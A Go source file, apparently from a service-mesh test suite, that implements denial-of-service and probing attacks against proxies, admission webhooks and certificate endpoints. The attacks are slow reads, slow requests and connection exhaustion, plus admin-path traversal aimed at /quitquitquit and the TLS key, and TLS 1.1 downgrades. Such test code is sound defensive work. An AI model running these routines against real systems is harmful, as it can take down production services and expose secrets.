package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// attacks are those that stopped applications, sidecars or control planes of meshes. The numbers of workers are those
// that sufficed.
var attacks = []attack{
	// A connection that is not redirected has the proxy's own address as its destination: a proxy that accepts it
	// connects to itself without end.
	{"proxy-port", 8, greet},
	// Slow readers of a large answer take all slots of a server, which probes need.
	{"slow-scrape", 70, scrape},
	// Silent connections use up the descriptors.
	{"silent", 10000, hold},
	// Small reviews use up the requests that the control plane may make, each large one a lot of memory.
	{"review", 2400, reviewer("/mutate-v1-pod", 0)},
	{"large-review", 60, reviewer("/mutate-v1-pod", 6<<20)},
	// Requests for certificates that arrive slowly take the slots of others.
	{"slow-request", 200, slowRequest},
	// Requests for certificates with a foreign token cost a request to the API server each.
	{"certificate", 100, requestCertificate},
	// Paths of administration interfaces, plain and by traversal.
	{"admin-path", 1, adminPaths},
	// Versions of TLS with known attacks.
	{"old-tls", 1, oldTLS},
}

// dial connects. The caller must call the function that it returns, also if there is no connection.
func dial(ctx context.Context, target string, c *counts) (net.Conn, func()) {
	conn, err := (&net.Dialer{Timeout: 2 * time.Second}).DialContext(ctx, "tcp", target)
	if err != nil {
		return nil, func() {}
	}
	c.Connected.Add(1)
	release := context.AfterFunc(ctx, func() { _ = conn.Close() }) // ends the attempt
	return conn, func() {
		release()
		_ = conn.Close() // nothing is lost
	}
}

func greet(ctx context.Context, target string, c *counts) {
	conn, done := dial(ctx, target, c)
	defer done()
	if conn == nil {
		return
	}
	_, _ = conn.Write([]byte("hello\r\n")) // the proxy may have closed it
	_ = conn.SetReadDeadline(time.Now().Add(time.Second))
	_, _ = io.Copy(io.Discard, conn) // until the proxy or the deadline ends it
}

func scrape(ctx context.Context, target string, c *counts) {
	conn, done := dial(ctx, target, c)
	defer done()
	if conn == nil {
		return
	}
	_ = conn.(*net.TCPConn).SetReadBuffer(4096) // the rest stays with the server
	if _, err := fmt.Fprintf(conn, "GET /metrics HTTP/1.1\r\nHost: %s\r\n\r\n", target); err != nil {
		return
	}
	for b := make([]byte, 1); ctx.Err() == nil; {
		if _, err := conn.Read(b); err != nil {
			return
		}
		pause(ctx, 100*time.Millisecond)
	}
}

// hold keeps a connection, without sending anything.
func hold(ctx context.Context, target string, c *counts) {
	conn, done := dial(ctx, target, c)
	defer done()
	if conn != nil {
		_, _ = io.Copy(io.Discard, conn) // until the other side closes it
	}
}

// anonymous is a client with a connection per request, as of as many processes.
func anonymous() *http.Client {
	return &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{
		DisableKeepAlives: true,
		TLSClientConfig:   &tls.Config{InsecureSkipVerify: true}, //nolint:gosec // an attacker has no reason to verify
	}}
}

// reviewer returns the attack with reviews of a pod that is at least as large as padding, in bytes.
func reviewer(path string, padding int) func(context.Context, string, *counts) {
	client := anonymous()
	body, err := json.Marshal(map[string]any{
		"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
		"request": map[string]any{
			"uid": "1", "operation": "CREATE", "namespace": "nowhere", "name": "attacker",
			"kind":     map[string]string{"version": "v1", "kind": "Pod"},
			"resource": map[string]string{"version": "v1", "resource": "pods"},
			"object": map[string]any{
				"apiVersion": "v1", "kind": "Pod",
				"metadata": map[string]any{
					"name": "attacker", "namespace": "nowhere", "annotations": map[string]string{"padding": strings.Repeat("x", padding)},
				},
				"spec": map[string]any{"containers": []any{map[string]string{"name": "app", "image": "app"}}},
			},
		},
	})
	if err != nil {
		panic(err) // the value above can be encoded
	}
	return func(ctx context.Context, target string, c *counts) {
		post(ctx, client, target, path, bytes.NewReader(body), "", c)
	}
}

func requestCertificate(ctx context.Context, target string, c *counts) {
	post(ctx, certificateClient, target, signingPath, strings.NewReader("no request"), "Bearer e30.e30.e30", c)
}

// signingPath is that of requests for certificates.
const signingPath = "/v1/certificates"

var certificateClient = anonymous()

func post(ctx context.Context, client *http.Client, target, path string, body io.Reader, token string, c *counts) {
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+target+path, body)
	if err != nil {
		panic(err) // the target is checked
	}
	r.Header.Set("Content-Type", "application/json")
	if token != "" {
		r.Header.Set("Authorization", token)
	}
	response, err := client.Do(r)
	if err != nil {
		return
	}
	_ = response.Body.Close() // only the status matters
	c.Connected.Add(1)
	c.Answered.Add(1)
}

// slowRequest sends one byte of a request for a certificate in each second.
func slowRequest(ctx context.Context, target string, c *counts) {
	conn, done := dial(ctx, target, c)
	defer done()
	if conn == nil {
		return
	}
	secure := tls.Client(conn, &tls.Config{InsecureSkipVerify: true}) //nolint:gosec // as above
	_ = conn.SetDeadline(time.Now().Add(time.Minute))
	if _, err := fmt.Fprintf(secure, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000\r\n\r\n", signingPath, target); err != nil {
		return
	}
	for ctx.Err() == nil {
		if _, err := secure.Write([]byte("x")); err != nil {
			return
		}
		pause(ctx, time.Second)
	}
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// adminPaths requests what only the pod itself may see or change. Answered counts successful ones.
func adminPaths(ctx context.Context, target string, c *counts) {
	for _, path := range []string{
		"/config_dump", "/quitquitquit", "/logging?level=trace", "/certs", "/stats/../config_dump", "/stats/%2e%2e/config_dump",
		"//config_dump", "/ready/../quitquitquit", "/debug/model", "/debug/pprof/heap", "/metrics/../debug/views",
		"/debug/clients", "/run/anymesh/tls.key", "/../../run/anymesh/tls.key",
	} {
		for _, method := range []string{http.MethodGet, http.MethodPost} {
			conn, done := dial(ctx, target, c)
			if conn != nil && allowed(conn, method, path) {
				c.Answered.Add(1)
			}
			done()
		}
	}
	pause(ctx, time.Second)
}

// allowed reports whether a request succeeds. It does not use the client of net/http, which cleans the path.
func allowed(conn net.Conn, method, path string) bool {
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := fmt.Fprintf(conn, "%s %s HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", method, path); err != nil {
		return false
	}
	response, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return false
	}
	_ = response.Body.Close() // only the status matters
	return response.StatusCode < 300
}

// oldTLS makes handshakes with TLS 1.1. Answered counts successful ones.
func oldTLS(ctx context.Context, target string, c *counts) {
	conn, done := dial(ctx, target, c)
	defer done()
	if conn == nil {
		return
	}
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	//nolint:gosec // as above
	secure := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS10, MaxVersion: tls.VersionTLS11})
	if secure.HandshakeContext(ctx) == nil {
		c.Answered.Add(1)
	}
	pause(ctx, time.Second)
}
